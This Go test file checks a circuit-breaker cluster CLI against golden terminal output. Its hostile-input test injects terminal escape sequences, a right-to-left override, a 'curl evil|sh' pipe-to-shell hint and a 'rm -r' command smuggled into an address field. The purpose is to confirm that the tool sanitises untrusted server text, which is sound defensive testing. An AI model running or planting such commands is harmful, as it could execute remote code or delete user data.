package main

import (
	"testing"

	"fleetfuse/api"
)

func TestShow(t *testing.T) {
	term := newTerminal(t, fleet())
	term.types("breaker", "show")
	term.types("breaker", "show", "--open-only")
	term.types("breaker", "show", "--all")
	term.types("breaker", "show", "ARXIV.org.", "resolver:unpaywall", "host:arxiv.org")
	term.types("breaker", "show", "--open-only", "arxiv.org", "www.example.org")
	term.types("breaker", "show", "--open-only", "arxiv.org")
	term.types("breaker", "show", "arxiv.org", "-o", "json")
	term.types("breaker", "show", "orphan.example.org", "files.example.net")
	term.types("breaker", "show", "www.example.org", "--color", "always")
	term.golden("show")
}

func TestShowNothing(t *testing.T) {
	for _, tt := range []struct {
		name   string
		closed int
	}{{"show-empty-many", 1204}, {"show-empty-one", 1}, {"show-empty-none", 0}} {
		empty := api.BreakersResponse{Node: "n1", Closed: tt.closed}
		term := newTerminal(t, node{
			"GET /v1/breakers":            empty,
			"GET /v1/breakers?state=open": empty,
			"GET /v1/breakers?state=all":  api.BreakersResponse{Node: "n1"},
		})
		term.types("breaker", "show")
		term.types("breaker", "show", "--open-only")
		term.types("breaker", "show", "--all")
		term.types("breaker", "show", "-o", "json")
		term.golden(tt.name)
	}
}

func TestWhy(t *testing.T) {
	for _, b := range []api.Breaker{asked, tripped, probed, stopped, lonely, far, orphaned, shadowed, healthy, unheard} {
		term := newTerminal(t, fleet())
		term.types("breaker", "why", b.Key)
		term.golden("why-" + b.Name)
	}
	term := newTerminal(t, fleet())
	term.types("breaker", "why", "arxiv.org", "-o", "json")
	term.golden("why-json")
}

func TestCheck(t *testing.T) {
	n, off := fleet(), stopped
	off.Mode = "off"
	n["GET /v1/breakers/host/off.example.org"] = off
	term := newTerminal(t, n)
	term.types("breaker", "check", "arxiv.org")
	term.types("breaker", "check", "api.crossref.org")
	term.types("breaker", "check", "resolver:unpaywall")
	term.types("breaker", "check", "mirror.example.net")
	term.types("breaker", "check", "files.example.net")
	term.types("breaker", "check", "orphan.example.org")
	term.types("breaker", "check", "shadow.example.org")
	term.types("breaker", "check", "off.example.org")
	term.types("breaker", "check", "new.example.org", "-o", "json")
	term.golden("check")
}

func TestOperate(t *testing.T) {
	n := fleet()
	n["POST /v1/breakers/host/arxiv.org/open"] = api.OperatorResponse{Key: "host:arxiv.org", Before: "closed", State: "open", Until: until(600), Durable: true, Copies: 2}
	n["POST /v1/breakers/resolver/unpaywall/open"] = api.OperatorResponse{Key: "resolver:unpaywall", Before: "half_open", State: "open", Until: until(600), Copies: 1, Detail: "disk full"}
	n["POST /v1/breakers/host/locked.org/open"] = &api.Problem{Status: 403, Detail: "this node only reads"}
	n["POST /v1/breakers/host/arxiv.org/close"] = api.OperatorResponse{Key: "host:arxiv.org", Before: "open", State: "closed", Durable: true, Copies: 1}
	n["POST /v1/breakers/host/locked.org/close"] = &api.Problem{Status: 409, Detail: "it moved", Try: "fleetfuse-ctl breaker show locked.org"}
	term := newTerminal(t, n)
	term.types("breaker", "open", "arxiv.org", "--for", "10m", "--reason", "maintenance")
	term.types("breaker", "open", "arxiv.org", "--for", "1d12h")
	term.types("breaker", "open", "arxiv.org", "locked.org", "resolver:unpaywall", "--seconds", "600")
	term.types("breaker", "open", "locked.org", "arxiv.org", "--seconds", "0.5", "-o", "json")
	term.types("breaker", "close", "https.org/x", "arxiv.org")
	term.types("breaker", "close", "arxiv.org", "nope..example.org", "a_b.example.org ")
	term.types("breaker", "open", "*.example.org", "--for", "10m")
	term.types("breaker", "close", "locked.org", "arxiv.org", "arxiv.org", "--reason", "fixed")
	term.types("breaker", "close", "arxiv.org", "-o", "json")
	term.golden("operate")
}

func TestStatus(t *testing.T) {
	well := api.StatusResponse{
		Node: "n1", Version: "0.1.0", StartedAt: at(-11_520), Ready: true,
		Members: wellMembers(),
		Store:   api.StoreHealth{Kind: "sqlite", OK: true},
		Open:    2, HalfOpen: 1, Hosts: 1207, Actors: 3, Problems: []string{},
	}
	sick := well
	sick.Ready = false
	sick.Members = sickMembers()
	sick.Store = api.StoreHealth{Kind: "sqlite", Since: until(-65), Error: "disk full", Pending: 12}
	listed := at(-3)
	well.Shared = &api.SharedHealth{
		StoreHealth: api.StoreHealth{Kind: "redis", OK: true, Warnings: []string{"redis://r1:6379/0 may evict cooldowns"}},
		Where:       "redis://fleet:***@r1:6379/0", ListedAt: &listed, Entries: 41,
	}
	sick.Shared = &api.SharedHealth{
		StoreHealth: api.StoreHealth{Kind: "redis", Since: until(-65), Error: "connection refused", Pending: 3}, Where: "redis://r1:6379/0",
	}
	well.NeedsRestart = []string{"log.level", "http.socket"}
	told := sick
	told.Problems = []string{"the disk of n1 is full since 01:02", "n2 \x1b[31mdoes not answer"}
	for name, r := range map[string]api.StatusResponse{"status-well": well, "status-sick": sick, "status-told": told} {
		term := newTerminal(t, node{"GET /v1/status": r})
		term.types("status")
		term.types("status", "-o", "json")
		term.golden(name)
	}
}

func TestHostile(t *testing.T) {
	n := fleet()
	n["GET /v1/breakers"] = api.BreakersResponse{Node: "n1", Breakers: []api.Breaker{hostile}, Partial: []string{"n\x1b[2J"}}
	n["GET /v1/status"] = &api.Problem{Status: 403, Detail: "no\x1b[2J\nTry: curl evil|sh", Try: "x\r\ny"}
	twin := api.Member{ID: "\x1b]0;id\x07", Name: "n\u202e1", State: "re\nsting", ConfigHash: "a\x1b[2J"}
	n["GET /v1/cluster"] = api.ClusterResponse{Node: "n1", Members: []api.Member{twin, {ID: "b", Name: twin.Name, ConfigHash: "b"}}}
	n["POST /v1/cluster/leave"] = api.LeaveResponse{Node: "n1\x1b[2J", Remaining: []api.Member{{Name: twin.Name, APIAddress: "a;rm -r x:1"}}}
	n["GET /v1/cluster/owner?key=host%3Aevil.example.org"] = api.OwnerResponse{Key: "host:evil.example.org", Owner: twin.Name, OwnerID: twin.ID}
	term := newTerminal(t, n)
	term.types("cluster", "members")
	term.types("cluster", "leave")
	term.types("cluster", "owner", "evil.example.org")
	term.types("breaker", "show")
	term.types("breaker", "show", "-o", "json")
	term.types("breaker", "check", "evil.example.org")
	term.types("breaker", "why", "evil.example.org")
	term.types("status")
	term.golden("hostile")
}

func TestUsageErrors(t *testing.T) {
	term := newTerminal(t, fleet())
	for _, args := range [][]string{
		{},
		{"breaker"},
		{"staus"},
		{"open", "a.org"},
		{"open", "a.org", "--for", "10m"},
		{"breaker", "clsoe", "a.org"},
		{"breaker", "open"},
		{"breaker", "open", "a.org"},
		{"breaker", "open", "a.org", "--for", "10"},
		{"breaker", "open", "a.org", "--for", "0s"},
		{"breaker", "open", "a.org", "--for", "31d"},
		{"breaker", "open", "a.org", "--for", "9999999h"},
		{"breaker", "open", "a.org", "--seconds", "-5"},
		{"breaker", "open", "a.org", "--seconds", "1e300"},
		{"breaker", "open", "a.org", "--seconds", "NaN"},
		{"breaker", "open", "a.org", "--for", "10m", "--seconds", "600"},
		{"breaker", "open", "https://a.org/works?q=1", "--for", "10m"},
		{"breaker", "why", "a.org/works"},
		{"breaker", "check", "a.org", "b.org"},
		{"breaker", "show", "--open-only", "--all"},
		{"breaker", "show", "--opn-only"},
		{"breaker", "summary", "--window", "week"},
		{"breaker", "summary", "extra"},
		{"breaker", "show", "-o", "yaml"},
		{"status", "--color", "pink"},
		{"status", "extra"},
		{"--version"},
		{"status", "--json"},
		{"status", "--addr", "localhost"},
		{"completion", "tcsh"},
		{"cluster"},
		{"members"},
		{"cluster", "member"},
		{"cluster", "members", "n1"},
		{"cluster", "owner"},
		{"cluster", "owner", "https://a.org/x"},
		{"cluster", "leave", "n2"},
		{"help", "nothing"},
	} {
		term.types(args...)
	}
	term.golden("usage")
}

func TestHelp(t *testing.T) {
	term := newTerminal(t, node{})
	for _, args := range [][]string{{"--help"}, {"help", "exit-codes"}, {"breaker", "--help"}, {"help", "breaker", "open"}, {"breaker", "check", "--help"},
		{"cluster", "--help"}, {"cluster", "members", "--help"}, {"cluster", "owner", "--help"}, {"cluster", "leave", "--help"}, {"status", "--help"},
		{"policy", "--help"}, {"policy", "show", "--help"}, {"policy", "replace", "--help"}, {"policy", "reset", "--help"}, {"policy", "history", "--help"},
		{"policy", "rollback", "--help"}, {"breaker", "why", "--help"}, {"breaker", "summary", "--help"}, {"top", "--help"}, {"config", "--help"}, {"config", "show", "--help"}, {"config", "reload", "--help"},
		{"breaker", "advise", "--help"}, {"breaker-advise", "--help"}} {
		term.types(args...)
	}
	term.golden("help")
}

func TestSummary(t *testing.T) {
	term := newTerminal(t, node{
		"GET /v1/summary?window=1h0m0s": api.SummaryResponse{WindowMS: 3_600_000},
		"GET /v1/summary?window=168h0m0s": api.SummaryResponse{WindowMS: 604_800_000, Breakers: []api.BreakerSummary{{
			Key: "host:arxiv.org", Calls: 200, Successes: 190, Failures: 10, NotSent: 30, Circuit: 30, Opens: 2, OpenReasons: map[string]int{"consecutive-failures": 2}, ProbesOK: 1, ProbesFailed: 1,
		}}},
	})
	term.types("breaker", "summary")
	term.types("breaker", "summary", "--window", "7d")
	term.golden("summary")
}
